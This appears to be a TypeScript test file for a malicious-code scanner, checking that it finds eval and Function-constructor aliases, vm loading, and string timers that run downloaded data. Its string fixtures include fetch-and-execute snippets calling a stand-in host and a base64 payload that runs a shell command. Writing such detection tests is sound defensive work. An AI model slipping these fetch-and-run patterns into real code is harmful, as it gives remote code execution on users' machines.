import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseJs } from './parse.js';
import { findSinks } from './sinks.js';
import { originsOf } from './flow.js';
import { analyzeFile } from '../../engine/analyze-file.js';
import { allRules } from '../../rules/index.js';

/** 'kind@line' of every sink of `code` (unsure timers marked '?'). */
function sinks(code: string): string[] {
  const { ast } = parseJs(code);
  return findSinks(ast).map((s) => `${s.kind}${s.unsure ? '?' : ''}@${lineOf(code, s.node.start)}`);
}
const lineOf = (code: string, at: number) => code.slice(0, at).split('\n').length;
/** 'rule-id@line severity' of every finding of all rules on `code` as index.js. */
function findings(code: string, file = 'index.js'): string[] {
  const r = analyzeFile(file, new TextEncoder().encode(code), [...allRules]);
  assert.deepEqual(r.errors, []);
  return r.findings.map((f) => `${f.ruleId}@${f.line} ${f.severity}`).sort();
}

test('sinks: Function-constructor and eval aliases resolve through the binding where they are called', async (t) => {
  await t.test('const F = Function.constructor; new F(code)() and const C = (function(){}).constructor; C(code)()', () => {
    assert.deepEqual(sinks('const F = Function.constructor;\nnew F(code)();\nconst C = (function () {}).constructor;\nC(code)();\n'), ['function-constructor@2', 'function-constructor@4']);
  });
  await t.test('an alias of an alias, and a name reused by other functions (minified e)', () => {
    const code = 'function a(e) { return e.x; }\nfunction b() { var e = (() => {}).constructor; var t = e; return t(s)(); }\nfunction c(e) { return e + 1; }\n';
    assert.deepEqual(sinks(code), ['function-constructor@2']);
  });
  await t.test('an eval alias bound where it is called', () => {
    assert.deepEqual(sinks('function r(s) { const e = globalThis.eval; e(s); }\nfunction q(e, s) { e(s); }\n'), ['eval@1']);
  });
  await t.test('a parameter named like an alias elsewhere is no sink (it was, when the file had one value of that name)', () => {
    const code = 'function a() { var F = Function.constructor; return F("return this")(); }\nfunction b(F, s) { return new F(s); }\nfunction c(e, s) { return e(s); }\nfunction d() { var e = eval; return e; }\n';
    assert.deepEqual(sinks(code), ['function-constructor@1']);
  });
  await t.test('a name given two values, or shadowed by a block-level let, is not the alias', () => {
    assert.deepEqual(sinks('let F = Function.constructor;\nif (x) F = Klass;\nnew F(s);\n'), []);
    assert.deepEqual(sinks('const F = Function.constructor;\n{ let F = Klass; new F(s); }\n'), []);
  });
  await t.test('end to end: an aliased Function constructor running decoded code and a downloaded body', () => {
    const code = "const axios = require('axios');\nfunction noop(F) { return new F(); }\nconst F = Function.constructor;\nconst code = atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=');\nnew F(code)();\naxios.get('https://cfg.example.invalid/a').then((r) => { new F('require', r.data)(require); });\n";
    assert.deepEqual(findings(code), ['decoded-code-execution@5 high', 'function-constructor-require@6 critical', 'remote-code-execution@6 critical']);
  });
});

test('sinks: a module name held in a constant (vm)', async (t) => {
  await t.test("const n = 'v' + 'm'; require(n).runInThisContext(code)", () => {
    assert.deepEqual(sinks("const n = 'v' + 'm';\nrequire(n).runInThisContext(code);\nconst vm = require(n);\nvm.runInNewContext(code);\n"), ['vm@2', 'vm@4']);
  });
  await t.test('a module name from a parameter is unknown: no vm sink', () => {
    assert.deepEqual(sinks('function load(n) { return require(n).runInThisContext(code); }\n'), []);
  });
  await t.test('a network module held in a constant is a network source', () => {
    const code = "const m = 'ht' + 'tps';\nconst h = require(m);\nh.get('https://cfg.example.invalid/a', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n";
    const { ast } = parseJs(code);
    const o = originsOf(findSinks(ast)[0]!.code, ast).map((x) => `${x.kind}:${x.label}`);
    assert.ok(o.includes('network:https.get'), o.join());
    const param = "function f(m) { const h = require(m); h.get('https://cfg.example.invalid/a', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); }); }\n";
    const p = parseJs(param).ast;
    assert.ok(!originsOf(findSinks(p)[0]!.code, p).some((x) => x.kind === 'network'), 'a module named by a parameter is unknown');
  });
});

test('sinks: string timers given a download in a network callback', async (t) => {
  await t.test('request(url, (err, res, body) => setTimeout(body)) and res.body', () => {
    const code = "const request = require('request');\nrequest('https://cfg.example.invalid/a', (err, res, body) => setTimeout(body));\nrequest.get('https://cfg.example.invalid/b', function (e, r) { setTimeout(r.body, 10); });\n";
    assert.deepEqual(sinks(code), ['timer-string?@2', 'timer-string?@3']);
    assert.deepEqual(findings(code), ['remote-code-execution@2 critical', 'remote-code-execution@3 critical']);
  });
  await t.test("http.get with data/end events (already a plain string timer)", () => {
    const code = "const http = require('http');\nhttp.get('http://cfg.example.invalid/a', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => setTimeout(d)); });\n";
    assert.deepEqual(findings(code), ['remote-code-execution@2 critical']);
  });
  await t.test("ws.onmessage = (m) => setTimeout(m.data), addEventListener('message', …), ws.on('message', m => new Function(m)())", () => {
    const code = "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://cfg.example.invalid/s');\nws.onmessage = (m) => setTimeout(m.data);\nws.addEventListener('message', function (ev) { setInterval(ev.data, 1000); });\nws.on('message', (m) => new Function(m)());\n";
    assert.deepEqual(findings(code), ['remote-code-execution@3 critical', 'remote-code-execution@4 critical', 'remote-code-execution@5 critical']);
  });
  await t.test('look-alikes stay clean: timers given functions, the error of an err-first client, route handlers, local handlers', () => {
    const code = [
      "const request = require('request');",
      "const express = require('express');",
      'const app = express();',
      "request('https://api.example.com/status', (err, res, body) => { if (err) setTimeout(retry, 1000); else setTimeout(() => render(body), 10); });",
      "request('https://api.example.com/status', (err) => setTimeout(err));",
      "app.get('/health', (req, res) => setTimeout(res.end, 5));",
      "const bus = { onmessage: null };",
      'bus.onmessage = (job) => setTimeout(job.run, 0);',
      "const ws = new WebSocket('wss://api.example.com/s');",
      'ws.onmessage = (m) => { const h = handlers[m.type]; setTimeout(h, 0); };',
      "ws.on('close', (code) => setTimeout(code));",
      '',
    ].join('\n');
    assert.deepEqual(findings(code, 'src/client.js'), []);
  });
});

test('sinks: indirect eval (Reflect.apply, eval.call, eval.apply) runs its code argument', async (t) => {
  await t.test('Reflect.apply(eval, globalThis, [code]), eval.call(null, code), eval.apply(null, [code]), globalThis.eval.call', () => {
    const code = 'Reflect.apply(eval, globalThis, [a]);\neval.call(null, b);\neval.apply(null, [c]);\nglobalThis.eval.call(null, d);\n';
    const { ast } = parseJs(code);
    assert.deepEqual(findSinks(ast).map((s) => `${s.kind}@${lineOf(code, s.node.start)}:${code.slice(s.code!.start, s.code!.end)}`), ['eval@1:a', 'eval@2:b', 'eval@3:c', 'eval@4:d']);
  });
  await t.test('Reflect.apply and .call/.apply of other functions are no sinks', () => {
    assert.deepEqual(sinks('Reflect.apply(Math.max, null, [1, 2]);\nfn.call(this, code);\nlog.apply(console, [code]);\nconst o = { eval: (x) => x }; o.eval.call(o, s);\n'), []);
  });
  await t.test('end to end: a downloaded body run through Reflect.apply(eval, …)', () => {
    const code = "const axios = require('axios');\naxios.get('https://cfg.example.invalid/a').then((r) => Reflect.apply(eval, globalThis, [r.data]));\n";
    assert.deepEqual(findings(code), ['remote-code-execution@2 critical']);
  });
});
